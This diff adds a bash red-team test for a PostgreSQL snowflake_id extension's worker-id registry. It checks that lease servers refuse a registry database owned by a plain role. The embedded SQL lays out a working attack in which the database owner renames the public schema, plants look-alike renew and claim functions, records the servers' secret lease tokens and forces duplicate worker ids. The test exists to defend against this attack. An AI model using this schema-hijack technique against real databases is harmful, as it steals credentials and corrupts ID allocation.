@@ -1,0 +1,154 @@
+#!/usr/bin/env bash
+# Red-team attack on the worker-id registry (0.8.0 leases): the owner of
+# the registry database (mallory, a plain role: no grant, no membership)
+# makes two servers lease ONE worker id at once, and they mint duplicate
+# IDs; on the way she reads every server's secret lease token and runs her
+# code as the lease role (snowflake_lease).
+#
+# The lease worker looks the extension's schema up once per connection
+# (SCHEMA_SQL in src/mint/lease.rs: its NAME, from pg_extension) and then
+# sends "SELECT ... FROM <name>.snowflake_registry_renew(...)" on that
+# connection for as long as it lives. docs/worker-ids.md installs the
+# extension in the registry database's default schema, "public", which
+# since PostgreSQL 15 belongs to the database's owner (pg_database_owner):
+# she renames it, creates a new "public" and plants her own
+# snowflake_registry_renew and snowflake_registry_claim of the exact
+# argument types there. Every connected lease worker calls hers from its
+# next request on: hers records the token it is given (and current_user),
+# passes the first server's renewals through to the real function (it
+# runs as snowflake_lease, which may), answers the second server's with no
+# row ("lost"), and its claim hands out the first server's worker id.
+# The same rename also captures snowflake_registry_release.
+#
+# The database's owner can also DROP SCHEMA public CASCADE (it cascades to
+# the extension and its registry tables: every reservation is gone), and,
+# on PostgreSQL 16 and later, ANALYZE and VACUUM FULL the registry's table
+# to queue every renewal behind her lock. The lease worker therefore
+# refuses a registry whose database is not a superuser's (and one whose
+# extension schema is not, or where another role may create: see
+# attack_registry_overload.sh), before every request, with a message that
+# says why.
+#
+# Passes (exit 0) when the servers refuse her registry, none of her
+# functions ever runs, and, once the database belongs to a superuser,
+# the servers lease distinct ids from it; fails (exit 1) while the attack
+# works.
+set -euo pipefail
+source "$(dirname "${BASH_SOURCE[0]}")/attack_lib.sh"
+holders=()
+# --- a registry and leased servers (as tests/integration/leases.sh sets
+# them up: the documented GRANT, snowflake_lease's synchronous_commit = on,
+# the registry not preloaded) ------------------------------------------
+P0=${SNOWFLAKE_ATTACK_PORT:-56120}   # the registry; minting server N on P0+N
+BASE=$(state_dir "$ROOT/.run/attack-reg-owner" attack-__NAME__)
+REG="$BASE/reg"
+reg_cleanup() {
+    local p d
+    for p in "${holders[@]}"; do kill "$p" 2>/dev/null || true; done
+    for d in "$BASE"/m* "$REG"; do [ -d "$d" ] && cluster_stop "$d"; done
+    return 0
+}
+trap reg_cleanup EXIT
+# node DIR PORT [settings...]: a fresh cluster in DIR, started.
+node() {
+    local d="$1" port="$2"; shift 2
+    mkdir -p "$d"; if is_root; then chown postgres:postgres "$d"; fi
+    cluster_stop "$d"
+    cluster_init "$d" "$port" "$@"
+    cluster_up "$d"
+}
+# rs ROLE DB ARGS...: psql on the registry. ms N ARGS...: psql as postgres
+# on minting server N.
+rs() { local r="$1" db="$2"; shift 2
+       "$(pgbin)/psql" -X -q -h "$REG" -p "$P0" -U "$r" -d "$db" -v ON_ERROR_STOP=1 -At "$@"; }
+ms() { local n="$1"; shift
+       "$(pgbin)/psql" -X -q -h "$BASE/m$n" -p $((P0 + n)) -U postgres -d postgres -v ON_ERROR_STOP=1 -At "$@"; }
+GRANT_SQL="GRANT EXECUTE ON FUNCTION
+    snowflake_registry_claim(uuid,text,integer,text,text,integer,integer,integer,bigint,integer,bigint),
+    snowflake_registry_renew(integer,uuid,bigint,integer,bigint),
+    snowflake_registry_release(integer,uuid,bigint) TO snowflake_lease"
+# registry_up: the registry's cluster; database "registry"
+# owned by mallory (a plain role), the extension installed and initialised
+# there by the superuser as docs/worker-ids.md says.
+registry_up() {
+    node "$REG" "$P0"
+    rs postgres postgres -c "CREATE ROLE snowflake_lease LOGIN" -c "CREATE ROLE mallory LOGIN" \
+        -c "CREATE DATABASE registry OWNER mallory" >/dev/null
+    rs postgres registry -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" \
+        -c "SELECT snowflake_registry_init()" -c "ALTER ROLE snowflake_lease SET synchronous_commit = on" \
+        -c "$GRANT_SQL" >/dev/null
+}
+# minter_up N: minting server N, leasing from "registry" for 3 s.
+minter_up() {
+    node "$BASE/m$1" $((P0 + $1)) "shared_preload_libraries = 'snowflake_id'" \
+        "snowflake_id.worker_id_source = 'registry'" \
+        "snowflake_id.registry = 'host=$REG port=$P0 dbname=registry user=snowflake_lease'" \
+        "snowflake_id.lease_ttl = '3s'"
+    ms "$1" -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" >/dev/null
+}
+lease_of() { ms "$1" -c "SELECT lease_worker_id FROM snowflake_stats()" 2>/dev/null; }
+has_lease() { [ -n "$(lease_of "$1")" ]; }
+no_lease() { [ -z "$(lease_of "$1")" ]; }
+last_error() { ms "$1" -c "SELECT coalesce(registry_last_error, '') FROM snowflake_stats()" 2>&1 | cut -c1-200; }
+mints() { ms "$1" -c "SELECT snowflake_nextval()" >/dev/null 2>&1; }
+leased() { poll_until 30 has_lease "$1" || die "server $1 leased no worker id within 30 s ($(last_error "$1"))"; }
+# ------------------------------------------------------------------------
+registry_up
+minter_up 1; minter_up 2
+refused_owner() { [[ "$(last_error "$1")" == *"is refused: its owner mallory is not a superuser"* ]]; }
+for n in 1 2; do
+    poll_until 30 refused_owner "$n" \
+        || die "attack (registry owner) WORKS: server $n did not refuse the registry of mallory, a plain role; its lease: '$(lease_of "$n")', its last error: '$(last_error "$n")'"
+done
+log "attack (registry owner): both servers refuse a registry database owned by mallory: $(last_error 1)"
+w1=0
+
+# The attack: a few statements of the database owner.
+rs mallory registry >/dev/null <<SQL
+ALTER SCHEMA public RENAME TO public_was;
+CREATE SCHEMA public;
+GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.loot (fn text, who text, worker integer, token uuid);
+GRANT INSERT ON public.loot TO PUBLIC;
+CREATE FUNCTION public.snowflake_registry_renew(w integer, t uuid, e bigint, ttl integer, f bigint)
+RETURNS TABLE (reserved_until_ms bigint) LANGUAGE plpgsql AS \$f\$
+BEGIN
+    INSERT INTO public.loot VALUES ('renew', current_user, w, t);
+    IF w = $w1 THEN   -- server 1 keeps its lease: the real renewal
+        RETURN QUERY SELECT r.reserved_until_ms FROM public_was.snowflake_registry_renew(w, t, e, ttl, f) r;
+    END IF;
+END \$f\$;
+CREATE FUNCTION public.snowflake_registry_claim(t uuid, h text, p integer, s text, d text, pref integer,
+                                                wb integer, sb integer, ep bigint, ttl integer, f bigint)
+RETURNS TABLE (worker_id integer, lease_epoch bigint, floor_ms bigint, reserved_until_ms bigint)
+LANGUAGE plpgsql AS \$f\$
+BEGIN
+    INSERT INTO public.loot VALUES ('claim', current_user, $w1, t);
+    RETURN QUERY SELECT $w1, 1::bigint, NULL::bigint,
+                        (extract(epoch FROM clock_timestamp()) * 1000)::bigint + 3600000;
+END \$f\$;
+SQL
+
+# A few lease periods: still no lease, and none of her functions ran.
+sleep_until_ms=$(( $(date +%s%N) / 1000000 + 4000 ))
+quiet() { [ $(( $(date +%s%N) / 1000000 )) -ge "$sleep_until_ms" ]; }
+poll_until 30 quiet
+for n in 1 2; do
+    no_lease "$n" || die "attack (registry owner) WORKS: server $n leased worker id $(lease_of "$n") from mallory's registry"
+    ms "$n" -c "SELECT snowflake_nextval()" >/dev/null 2>&1 \
+        && die "attack (registry owner) WORKS: server $n mints under mallory's registry"
+done
+loot=$(rs postgres registry -c "SELECT string_agg(DISTINCT fn || ' as ' || who, ', ') || format(' (%s distinct tokens)', count(DISTINCT token))
+                                 FROM public.loot" 2>/dev/null || true)
+[ -z "$loot" ] || die "attack (registry owner) WORKS: her functions ran: $loot"
+log "attack (registry owner): her renamed public and her functions never ran"
+
+# The administrator gives the database to a superuser and puts the
+# extension's schema back: the servers lease two ids from it and mint.
+rs postgres registry -c "ALTER DATABASE registry OWNER TO postgres" \
+    -c "DROP SCHEMA public CASCADE" -c "ALTER SCHEMA public_was RENAME TO public" >/dev/null
+leased 1; leased 2
+[ "$(lease_of 1)" != "$(lease_of 2)" ] || die "both servers hold worker id $(lease_of 1) from the superuser's registry"
+mints 1 || die "server 1 cannot mint from the superuser's registry"
+mints 2 || die "server 2 cannot mint from the superuser's registry"
+log "attack (registry owner) refused: the superuser's registry leases ids $(lease_of 1) and $(lease_of 2)"
